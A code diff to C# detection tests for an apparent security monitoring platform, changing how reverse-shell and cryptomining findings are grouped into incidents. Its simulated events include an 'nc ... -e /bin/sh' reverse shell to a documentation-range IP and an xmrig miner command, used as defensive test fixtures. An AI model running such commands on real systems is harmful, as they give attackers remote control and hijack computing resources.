@@ -129,8 +129,10 @@ public abstract class DetectionTests(PlatformApi api)
         await s.PushAsync(s.Start(T0.AddSeconds(2), 502, 400, "nc", "cron", ["nc", "198.51.100.9", "4444", "-e", "/bin/sh"]));
         await s.PushAsync(s.Start(T0.AddSeconds(3), 503, 400, "sh", "cron", ["sh"]), s.Connect(T0.AddSeconds(3), 503, "sh", "198.51.100.9", 4444));
 
-        var incident = Assert.Single(await s.IncidentsAsync(IncidentCategory.ReverseShell));
-        Assert.Equal((IncidentSeverity.Critical, 3), (incident.Severity, incident.FindingCount));
+        // Three processes whose only common ancestor is cron: three chains, three incidents (docs/detection.md).
+        var incidents = await s.IncidentsAsync(IncidentCategory.ReverseShell);
+        Assert.Equal(3, incidents.Count);
+        Assert.All(incidents, i => Assert.Equal((IncidentSeverity.Critical, 1), (i.Severity, i.FindingCount)));
     }
 
     [SkippableFact]
@@ -144,9 +146,10 @@ public abstract class DetectionTests(PlatformApi api)
         await s.PushAsync(s.Connect(T0.AddSeconds(2), 601, "kworker", "198.51.100.41", 3333));
         await s.PushAsync(s.Start(T0.AddSeconds(3), 602, 1, "xmrig", "systemd", ["xmrig", "-o", "stratum+tcp://pool:3333"]));
 
-        var incident = Assert.Single(await s.IncidentsAsync(IncidentCategory.CryptoMining));
-        Assert.Equal(3, incident.FindingCount);
-        Assert.Contains("T1496", incident.Techniques);
+        // kworker's look-up and connection are one chain; xmrig (started by systemd) another.
+        var incidents = await s.IncidentsAsync(IncidentCategory.CryptoMining);
+        Assert.Equal([1, 2], incidents.Select(i => i.FindingCount).Order());
+        Assert.All(incidents, i => Assert.Contains("T1496", i.Techniques));
     }
 
     [SkippableFact]
